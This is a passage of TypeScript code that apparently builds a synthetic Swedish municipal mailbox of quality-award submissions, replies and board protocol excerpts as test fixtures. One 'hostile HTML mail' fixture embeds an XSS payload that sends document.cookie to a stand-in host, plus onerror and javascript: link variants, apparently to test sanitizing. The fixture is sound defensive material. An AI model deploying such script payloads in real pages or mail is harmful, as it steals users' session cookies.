    text: `Hej Lina!\n\nTack för ert bidrag. Det innehåller 86 420 tecken exklusive blanksteg, och gränsen är 85 000. Ni har möjlighet att korta ner det och skicka in en ny version senast den 17 maj kl. 24.00.\n\n${coordinatorSig(maria)}`,
    sent: d('05-13', '09:31:00'),
    thread: 'submission-arstaskogen-v1',
    inReplyTo: 'submission-arstaskogen-v1',
  });
  await submit(
    'arstaskogen-v2',
    u('arstaskogen'),
    d('05-15', '11:52:19'),
    `SV: Tävlingsbidrag ${u('arstaskogen').name}`,
    `Hej Maria!\n\nHär kommer en nedkortad version. Den ersätter den vi skickade i tisdags.\n\n${sig(u('arstaskogen'), true)}`,
    [
      await application(u('arstaskogen'), 'docx', `Tävlingsbidrag Årstaskogen ${year} v2.docx`, {
        targetNonSpaceChars: 84_610,
        seed: 'arstaskogen-v2',
      }),
    ],
    ['resubmission'],
    { thread: 'submission-arstaskogen-v1', inReplyTo: 'reply-arstaskogen' },
  );
  await submit(
    'larkan',
    u('larkan'),
    d('05-17', '14:30:02'),
    `Application – Quality Award ${year}`,
    `Hello,\n\nPlease find attached our application for the Quality Award ${year}, written in Swedish as required.\n\nKind regards,\nEmma Forsberg`,
    [await application(u('larkan'), 'pdf', `Application Lärkan ${year}.pdf`)],
    ['english'],
  );
  await submit(
    'regnbagen-1',
    u('regnbagen'),
    d('05-17', '20:41:10'),
    `Bidrag Förskolan Regnbågen del 1 av 2`,
    `Hej! Filen blev för stor för vår mejl så vi skickar i två delar. Här är del 1 (fråga 1–12).\n/Leila`,
    [
      await application(u('regnbagen'), 'docx', 'Bidrag Regnbågen del 1.docx', {
        questions: range(1, 12),
        targetNonSpaceChars: 31_000,
      }),
    ],
    ['split', 'part-1'],
    { format: 'text', thread: 'submission-regnbagen' },
  );
  await submit(
    'regnbagen-2',
    u('regnbagen'),
    d('05-17', '20:44:37'),
    `Bidrag Förskolan Regnbågen del 2 av 2`,
    `Och här kommer del 2 (fråga 13–24).\n/Leila`,
    [
      await application(u('regnbagen'), 'docx', 'Bidrag Regnbågen del 2.docx', {
        questions: range(13, 24),
        targetNonSpaceChars: 27_500,
        omitAdministrativeData: true,
        seed: 'regnbagen-2',
      }),
    ],
    ['split', 'part-2'],
    { format: 'text', thread: 'submission-regnbagen' },
  );
  await submit(
    'appelgarden',
    u('appelgarden'),
    d('05-16', '09:14:45'),
    `Kvalitetsutmärkelsen ${year} – bidrag från Förskolan Äppelgården`,
    `Hej!\n\nBifogat finns vårt tävlingsbidrag samt vår verksamhetsplan som bilaga.\n\n${sig(u('appelgarden'))}`,
    [
      await application(u('appelgarden'), 'pdf', `Tävlingsbidrag Äppelgården.pdf`),
      attachment(
        `Verksamhetsplan ${year} Förskolan Äppelgården.pdf`,
        await makePdf(verksamhetsplan(u('appelgarden'), year), {
          title: `Verksamhetsplan ${year}`,
        }),
        PDF_CONTENT_TYPE,
      ),
    ],
    ['appendix'],
  );
  await submit(
    'myrstacken',
    u('myrstacken'),
    d('05-10', '21:33:14'),
    'Vårt bidrag',
    `Hej! Här kommer bidraget från Myrstacken.\nIda`,
    [
      await application(u('myrstacken'), 'docx', 'Myrstacken bidrag.docx', {
        targetNonSpaceChars: 24_800,
      }),
    ],
    [],
    { format: 'text' },
  );
  await submit(
    'stjarnhus',
    u('stjarnhus'),
    d('05-15', '16:18:29'),
    `Tävlingsbidrag Stjärnhusskolan ${year}`,
    `Hej,\n\nHär kommer Stjärnhusskolans bidrag som PDF, som vi pratade om.\n\n${sig(u('stjarnhus'))}`,
    [
      await application(u('stjarnhus'), 'pdf', `Stjärnhusskolan tävlingsbidrag ${year}.pdf`, {
        targetNonSpaceChars: 79_300,
      }),
    ],
  );
  await submit(
    'lindhagen',
    u('lindhagen'),
    d('05-18', '00:14:52'),
    'Bidrag Lindhagensskolan',
    `Hej!\n\nHär kommer vårt bidrag. Ber om ursäkt att det blev några minuter sent, datorn krånglade i sista stund.\n\n${sig(u('lindhagen'))}`,
    [await application(u('lindhagen'), 'pdf', `Lindhagensskolan KU ${year}.pdf`)],
    ['late'],
  );
  await submit(
    'tenstadalen',
    u('tenstadalen'),
    d('05-15', '13:07:40'),
    `Kvalitetsutmärkelsen ${year}: Tenstadalens skola`,
    `Hej!\n\nBifogar Tenstadalens skolas tävlingsbidrag.\n\n${sig(u('tenstadalen'))}`,
    [await application(u('tenstadalen'), 'pdf', `Tenstadalens skola - bidrag.pdf`)],
  );
  await submit(
    'hammarbyhojden',
    u('hammarbyhojden'),
    d('05-17', '23:58:30'),
    'Tävlingsbidrag Hammarbyhöjdens grundsärskola',
    `Hej! I sista minuten – här är vårt bidrag.\n\n${sig(u('hammarbyhojden'))}`,
    [
      await application(
        u('hammarbyhojden'),
        'docx',
        `Tävlingsbidrag Hammarbyhöjdens grundsärskola.docx`,
      ),
    ],
    ['just-in-time'],
  );
  await submit(
    'norradjurgarden',
    u('norradjurgarden'),
    d('05-16', '18:20:03'),
    `Tävlingsbidrag ${u('norradjurgarden').name}`,
    `Hej,\n\nHär är vårt bidrag. Vi har inte hunnit skriva klart det sista avsnittet om utveckling men skickar det vi har.\n\n${sig(u('norradjurgarden'))}`,
    [
      await application(u('norradjurgarden'), 'docx', `NDG Kvalitetsutmärkelsen ${year}.docx`, {
        questions: range(1, 18),
        targetNonSpaceChars: 51_200,
      }),
    ],
    ['missing-questions'],
  );
  await submit(
    'nytorget',
    u('nytorget'),
    d('05-13', '14:02:56'),
    `Tävlingsbidrag – ${u('nytorget').name}`,
    `Hej!\n\nHär kommer vårt tävlingsbidrag till Kvalitetsutmärkelsen ${year}. Tack för svaret om timanställda!\n\n${sig(u('nytorget'))}`,
    [
      await application(u('nytorget'), 'docx', `Tävlingsbidrag Nytorget ${year}.docx`, {
        targetNonSpaceChars: 68_900,
      }),
      { name: 'image001.png', contentType: 'image/png', contentBytes: LOGO_PNG, isInline: true },
    ],
    [],
    {
      htmlExtra:
        '<div><img src="cid:logo-nytorget" alt="Stockholms stad" width="120" height="40"></div>',
    },
  );
  await submit(
    'hemtjanst-skarholmen-doc',
    u('hemtjanst-skarholmen'),
    d('05-14', '17:26:11'),
    'Bidrag Hemtjänsten Skärholmen centrum',
    `Hej!\nHär kommer vårt bidrag.\n\n${sig(u('hemtjanst-skarholmen'))}`,
    [
      {
        name: 'Bidrag Hemtjänsten Skärholmen.doc',
        contentType: 'application/msword',
        contentBytes: legacyDoc().toString('base64'),
      },
    ],
    ['unsupported-format'],
  );
  add({
    key: 'reply-hemtjanst-doc',
    folder: 'sentitems',
    from: shared,
    to: [manager(u('hemtjanst-skarholmen'))],
    subject: 'SV: Bidrag Hemtjänsten Skärholmen centrum',
    text: `Hej Nadia!\n\nTack för ert bidrag. Vi kan tyvärr inte öppna filformatet .doc. Kan ni spara om det som Word-dokument (.docx) eller PDF och skicka igen? Sista dag är den 17 maj kl. 24.00.\n\n${coordinatorSig(johan)}`,
    sent: d('05-15', '08:40:00'),
    thread: 'submission-hemtjanst-skarholmen-doc',
    inReplyTo: 'submission-hemtjanst-skarholmen-doc',
  });
  await submit(
    'hemtjanst-skarholmen-docx',
    u('hemtjanst-skarholmen'),
    d('05-15', '19:03:47'),
    'SV: Bidrag Hemtjänsten Skärholmen centrum',
    `Hej Johan, här kommer det som .docx. Tack för hjälpen!\n\n${sig(u('hemtjanst-skarholmen'), true)}`,
    [await application(u('hemtjanst-skarholmen'), 'docx', 'Bidrag Hemtjänsten Skärholmen.docx')],
    ['resubmission'],
    { thread: 'submission-hemtjanst-skarholmen-doc', inReplyTo: 'reply-hemtjanst-doc' },
  );
  await submit(
    'solangen',
    u('solangen'),
    d('05-12', '10:11:29'),
    `Tävlingsbidrag ${u('solangen').name}`,
    `Hej!\n\nBifogat finns Solängens tävlingsbidrag till Kvalitetsutmärkelsen ${year}.\n\n${sig(u('solangen'))}`,
    [
      await application(u('solangen'), 'pdf', `Solängen tävlingsbidrag ${year}.pdf`, {
        targetNonSpaceChars: 74_150,
      }),
    ],
  );
  await submit(
    'ekhagen',
    u('ekhagen'),
    d('05-17', '17:45:00'),
    `Kvalitetsutmärkelsen – Ekhagen`,
    `Hej,\n\nHär kommer vårt bidrag. Verksamhetsplanen tar vi med till platsbesöket i stället.\n\nMvh Lars Ekström`,
    [await application(u('ekhagen'), 'docx', `Ekhagen KU${yy}.docx`)],
  );
  await submit(
    'barnungdom-sodermalm',
    u('barnungdom-sodermalm'),
    d('05-08', '13:54:21'),
    `Tävlingsbidrag Barn- och ungdomsenheten Södermalm`,
    `Hej!\n\nHär kommer vårt tävlingsbidrag. Vi har svarat på samtliga 24 frågor.\n\n${sig(u('barnungdom-sodermalm'))}`,
    [
      await application(
        u('barnungdom-sodermalm'),
        'docx',
        `Tävlingsbidrag BoU Södermalm ${year}.docx`,
        { targetNonSpaceChars: 81_700 },
      ),
    ],
  );
  await submit(
    'fyrklovern',
    u('fyrklovern'),
    d('05-16', '12:30:08'),
    'Fyrklöverns bidrag',
    `Hej! Bifogar Korttidshemmet Fyrklöverns bidrag.\n\n${sig(u('fyrklovern'))}`,
    [
      await application(u('fyrklovern'), 'docx', `Fyrklövern ${year}.docx`, {
        questionHeadings: 'number-only',
      }),
    ],
  );
  await submit(
    'tranbar',
    u('tranbar'),
    d('05-17', '22:17:35'),
    `Bidrag ${u('tranbar').name}`,
    `Hej,\n\nHär kommer bidraget från Gruppbostaden Tranbärsvägen i Farsta.\n\n${sig(u('tranbar'))}`,
    [await application(u('tranbar'), 'pdf', `Tranbärsvägen bidrag.pdf`)],
  );
  await submit(
    'atelje-bla-v1',
    u('atelje-bla'),
    d('05-08', '15:40:12'),
    `Tävlingsbidrag Ateljé Blå`,
    `Hej!\n\nHär kommer vårt bidrag till Kvalitetsutmärkelsen ${year}.\n\n${sig(u('atelje-bla'))}`,
    [
      await application(u('atelje-bla'), 'docx', `Ateljé Blå tävlingsbidrag.docx`, {
        targetNonSpaceChars: 44_000,
      }),
    ],
  );
  await submit(
    'atelje-bla-v2',
    u('atelje-bla'),
    d('05-12', '09:05:48'),
    `Uppdaterad version: Tävlingsbidrag Ateljé Blå`,
    `Hej igen!\n\nVi upptäckte några fel i resultatdelen. Här kommer en uppdaterad version som ersätter den vi skickade i fredags.\n\n${sig(u('atelje-bla'))}`,
    [
      await application(u('atelje-bla'), 'docx', `Ateljé Blå tävlingsbidrag v2.docx`, {
        targetNonSpaceChars: 45_250,
        seed: 'atelje-bla-v2',
      }),
    ],
    ['resubmission'],
  );
  await submit(
    'kontaktcenter',
    u('kontaktcenter'),
    d('05-11', '11:11:41'),
    `Tävlingsbidrag Kontaktcenter Stockholm`,
    `Hej!\n\nHär kommer Kontaktcenter Stockholms bidrag till årets kvalitetsutmärkelse.\n\n${sig(u('kontaktcenter'))}`,
    [
      await application(
        u('kontaktcenter'),
        'docx',
        `Kontaktcenter Stockholm - Kvalitetsutmärkelsen ${year}.docx`,
        { targetNonSpaceChars: 62_400 },
      ),
    ],
  );
  await submit(
    'kundservice-steriks',
    u('kundservice-steriks'),
    d('05-15', '15:59:03'),
    `Bidrag Kvalitetsutmärkelsen ${year}`,
    `Hej,\n\nBifogat är Kundservice S:t Eriks Kommunservices bidrag.\n\n${sig(u('kundservice-steriks'))}`,
    [await application(u('kundservice-steriks'), 'pdf', `Kundservice S:t Erik ${year}.pdf`)],
  );
  await submit(
    'park-hasselby',
    u('park-hasselby'),
    d('05-17', '12:02:26'),
    `Parkenhetens bidrag`,
    `Hej!\n\nHär är Parkenheten Hässelby-Vällingbys tävlingsbidrag.\n\n${sig(u('park-hasselby'))}`,
    [
      await application(u('park-hasselby'), 'docx', `Parkenheten HV ${year}.docx`, {
        targetNonSpaceChars: 33_600,
      }),
    ],
  );

  // --- hostile HTML mail ---------------------------------------------------------------------------------------
  add({
    key: 'html-invitation',
    from: { name: 'Kvalitetsmässan', address: 'info@kvalitetsmassan.example' },
    to: [shared],
    subject: `Inbjudan: Kvalitetsmässan ${year} – boka din plats`,
    text: `Välkommen till Kvalitetsmässan ${year} i Göteborg den 15–16 oktober! Boka före 31 maj och få 20 % rabatt.\n\nLäs mer på https://kvalitetsmassan.example`,
    htmlExtra:
      '<script>document.location="https://kvalitetsmassan.example/track?u="+document.cookie</script>' +
      '<img src="https://kvalitetsmassan.example/pixel.gif?id=7731" width="1" height="1" onerror="alert(1)">' +
      '<a href="javascript:alert(\'hej\')">Boka här</a>',
    sent: d('05-20', '07:15:00'),
    importance: 'low',
    headers: [{ name: 'Precedence', value: 'bulk' }],
    label: label('other', [], 'marketing', 'html-script'),
  });

  // --- board protocols ------------------------------------------------------------------------------------------
  const protocols: Array<{
    org: string;
    date: string;
    sent: string;
    paragraph: number;
    units: Array<[string, string?]>;
    format?: 'docx';
  }> = [
    {
      org: 'utbildning',
      date: '06-11',
      sent: d('06-12', '10:21:07'),
      paragraph: 9,
      units: [
        ['larkan'],
        ['myrstacken'],
        ['stjarnhus'],
        ['lindhagen'],
        ['tenstadalen'],
        ['hammarbyhojden', 'Hammarbyhöjdens skola, grundsärskolan'],
        ['norradjurgarden'],
      ],
    },
    {
      org: 'steriks',
      date: '06-10',
      sent: d('06-12', '14:48:30'),
      paragraph: 6,
      units: [['kundservice-steriks', 'Kundservice']],
    },
    {
      org: 'hagersten-alvsjo',
      date: '06-16',
      sent: d('06-17', '09:33:12'),
      paragraph: 14,
      units: [['solrosen']],
    },
    {
      org: 'skarholmen',
      date: '06-17',
      sent: d('06-18', '11:02:44'),
      paragraph: 11,
      units: [['ekorren'], ['hemtjanst-skarholmen', 'Hemtjänst Skärholmen Centrum']],
    },
    {
      org: 'sodermalm',
      date: '06-18',
      sent: d('06-22', '08:57:19'),
      paragraph: 16,
      units: [['barnungdom-sodermalm', 'Barn och ungdomsenheten'], ['fyrklovern'], ['nytorget']],
    },
    {
      org: 'enskede-arsta-vantor',
      date: '06-18',
      sent: d('06-23', '13:14:51'),
      paragraph: 12,
      units: [['arstaskogen']],
    },
    {
      org: 'bromma',
      date: '06-17',
      sent: d('06-23', '15:40:26'),
      paragraph: 8,
      units: [['appelgarden'], ['ekhagen', 'Ekhagens vård och omsorgsboende']],
      format: 'docx',
    },
    {
      org: 'rinkeby-kista',
      date: '06-22',
      sent: d('06-24', '10:05:03'),
      paragraph: 19,
      units: [['regnbagen', 'Förskolan Regnbågen (Rinkeby)']],
    },
    {
      org: 'skarpnack',
      date: '06-23',
      sent: d('06-25', '16:22:37'),
      paragraph: 10,
      units: [['atelje-bla', 'Ateljé Blå, daglig verksamhet']],
    },
    {
      org: 'farsta',
      date: '06-24',
      sent: d('06-26', '09:48:15'),
      paragraph: 13,
      units: [['solangen'], ['tranbar']],
    },
    {
      org: 'stadsledning',
      date: '06-24',
      sent: d('06-29', '11:30:00'),
      paragraph: 22,
      units: [['kontaktcenter']],
    },
    {
      org: 'hasselby-vallingby',
      date: '06-25',
      sent: d('06-30', '23:10:41'),
      paragraph: 17,
      units: [['park-hasselby']],
    },
  ];
  for (const p of protocols) {
    const o = ORGANISATIONS.find((x) => x.key === p.org)!;
    const s = secretary(p.org);
    const units = p.units.map(([k]) => u(k));
    const paragraphs = protocolParagraphs(
      o,
      s,
      year,
      `${year}-${p.date}`,
      p.paragraph,
      p.units.map(([k, alt]) => alt ?? u(k).name),
    );
    const file =
      p.format === 'docx'
        ? attachment(
            `Protokollsutdrag ${o.boardName} ${year}-${p.date} § ${p.paragraph}.docx`,
            await makeDocx(paragraphs),
            DOCX_CONTENT_TYPE,
          )
        : attachment(
            `Protokollsutdrag ${o.boardName} ${year}-${p.date} § ${p.paragraph}.pdf`,
            await makePdf(paragraphs, { title: 'Protokollsutdrag' }),
            PDF_CONTENT_TYPE,
          );
    add({
      key: `protocol-${p.org}`,
      from: person(s),
      to: [shared],
      subject: `Protokollsutdrag ${o.boardName} ${year}-${p.date} § ${p.paragraph} – Kvalitetsutmärkelsen ${year}`,
      text: `Hej!\n\nBifogar protokollsutdrag från ${o.boardName}s sammanträde den ${formatShortDate(`${year}-${p.date}`, 'sv')} ${year} om deltagande i Stockholms stads kvalitetsutmärkelse ${year}.\n\nMed vänlig hälsning\n${s.given} ${s.surname}\n${s.jobTitle}\n${s.department}`,
      sent: p.sent,
      attachments: [file],
      label: label('board-protocol', units, ...(p.format === 'docx' ? ['docx'] : [])),
    });
  }

  // --- last year's archive folder ------------------------------------------------------------------------------
  const archive = ARCHIVE_FOLDER(year);
  add({
    key: 'archive-thanks',
    folder: archive,
    from: manager(u('humlegarden')),
    to: [shared],
    subject: 'Tack för en fantastisk prisutdelning!',
    text: `Hej!\n\nStort tack för en fantastisk kväll i Blå hallen. Hela förskolan är så stolt!\n\n${sig(u('humlegarden'))}`,
    sent: `${year - 1}-11-27T08:14:00`,
    isRead: true,
    label: label('other', [u('humlegarden')], 'archive'),
  });
  add({
    key: 'archive-protocol',
    folder: archive,
    from: person(secretary('sodermalm')),
    to: [shared],
    subject: `Protokollsutdrag Södermalms stadsdelsnämnd ${year - 1}-06-19 § 15`,
    text: `Hej!\n\nBifogar protokollsutdrag om deltagande i Kvalitetsutmärkelsen ${year - 1}.\n\nCecilia Osvald\nNämndsekreterare`,
    sent: `${year - 1}-06-23T10:05:00`,
    isRead: true,
    attachments: [
      attachment(
        `Protokollsutdrag Södermalms stadsdelsnämnd ${year - 1}-06-19.pdf`,
        await makePdf(
          protocolParagraphs(
            ORGANISATIONS.find((x) => x.key === 'sodermalm')!,
            secretary('sodermalm'),
            year - 1,
            `${year - 1}-06-19`,
            15,
            [u('nytorget').name],
          ),
        ),
        PDF_CONTENT_TYPE,
      ),
    ],
    label: label('board-protocol', [u('nytorget')], 'archive'),
  });

  const messages = specs
    .map(buildMessage)
    .sort((a, b) =>
      (a.message.receivedDateTime ?? '').localeCompare(b.message.receivedDateTime ?? ''),
    );
  return { childFolders: [archive], messages, masterCategories: MASTER_CATEGORIES };
}

function range(from: number, to: number): number[] {
  return Array.from({ length: to - from + 1 }, (_, i) => from + i);
}

const CHAIRS: Record<string, string> = {
  district: 'ordförande',
  administration: 'ordförande',
  company: 'styrelseordförande',
};

/** A protocol excerpt in the usual form: heading, decision listing the units, background, signatures. */
export function protocolParagraphs(
  org: SeedOrganisation,
  secretary: Person,
  year: number,
  meetingDate: string,
  paragraph: number,
  unitNames: string[],
): DocxParagraph[] {
  const subject =
    org.kind === 'district'
      ? 'Stadsdelsnämnden'
      : org.kind === 'company'
        ? 'Styrelsen'
        : org.boardName;
  const decision =
    org.key === 'utbildning'
      ? `${subject} beslutar att godkänna att följande enheter deltar i Stockholms stads kvalitetsutmärkelse ${year}:`
      : `${subject} beslutar att anmäla följande enheter till Stockholms stads kvalitetsutmärkelse ${year}:`;
  const abbreviation = org.key.slice(0, 2).toUpperCase();
  return [
    { text: 'Protokollsutdrag', style: 'Title' },
    org.boardName,
    `Protokoll fört vid sammanträde ${meetingDate}`,
    {
      text: `§ ${paragraph} Deltagande i Stockholms stads kvalitetsutmärkelse ${year}`,
      style: 'Heading1',
    },
    `Dnr ${abbreviation} ${year}/${String(300 + paragraph * 7).padStart(5, '0')}`,
    { text: 'Beslut', style: 'Heading2' },
    decision,
    ...unitNames.map((n) => `• ${n}`),
    `${subject} förklarar beslutet omedelbart justerat.`,
    { text: 'Ärendet', style: 'Heading2' },
    'Kvalitetsutmärkelsen är Stockholms stads årliga pris för att uppmärksamma, belöna och rikta ljuset mot framgångsrik verksamhetsutveckling i staden. Alla kommunalt drivna verksamheter och enskilt drivna verksamheter som finansieras av staden är välkomna att delta.',
    `Tävlingsbidragen lämnades till stadsledningskontoret senast den 17 maj ${year}. Respektive nämnd och styrelse meddelar vilka enheter som deltar senast den 30 juni ${year}.`,
    'Förvaltningen bedömer att deltagandet ger enheterna en värdefull genomlysning av sin verksamhet och en skjuts framåt i utvecklingsarbetet.',
    { text: 'Förslag till beslut', style: 'Heading2' },
    `Förvaltningens förslag till beslut godkändes. Ordförande: Karin ${org.kind === 'company' ? 'Ståhl' : 'Mellberg'}, ${CHAIRS[org.kind]}.`,
    'Vid protokollet',
    `${secretary.given} ${secretary.surname}`,
    'Rätt utdraget intygar',
    `${secretary.given} ${secretary.surname}, ${secretary.jobTitle.toLowerCase()}`,
  ];
}

function verksamhetsplan(unit: SeedUnit, year: number): DocxParagraph[] {
  return [
    { text: `Verksamhetsplan ${year}`, style: 'Title' },
    unit.name,
    { text: 'Mål 1: Alla barn ska känna sig trygga och delaktiga', style: 'Heading1' },
    'Förväntat resultat: minst 90 procent av vårdnadshavarna uppger att deras barn känner sig trygga.',
    'Arbetssätt: trygghetsvandringar med barnen, mentorskap och dagliga samlingar i mindre grupper.',
    'Uppföljning: förskoleundersökningen och barnintervjuer varje termin.',
    { text: 'Mål 2: Undervisningen ska vila på vetenskaplig grund', style: 'Heading1' },
    'Förväntat resultat: alla arbetslag dokumenterar och reflekterar över undervisningen varannan vecka.',
    'Arbetssätt: kollegialt lärande med stöd av förskolans utvecklingsledare.',
    'Uppföljning: pedagogisk dokumentation och tertialrapport till nämnden.',
  ];
}

/** A seed unit as the application generator wants it (administrative data of a submission). */
export function applicationUnit(unit: SeedUnit): ApplicationOptions['unit'] {
  return {
    name: unit.name,
    classId: unit.classId,
    managerName: unit.managerName,
    unitPhone: unit.phone ?? '',
    managerPhone: unit.managerPhone,
    unitEmail: unit.email ?? '',
    managerEmail: unit.managerEmail,
    postalAddress: addressLine(unit.postalAddress),
    visitingAddress: addressLine(unit.visitingAddress),
    staffCount: unit.staffCount ?? 0,
    organisationName: ORGANISATIONS.find((o) => o.id === unit.organisationId)?.name,
  };
}
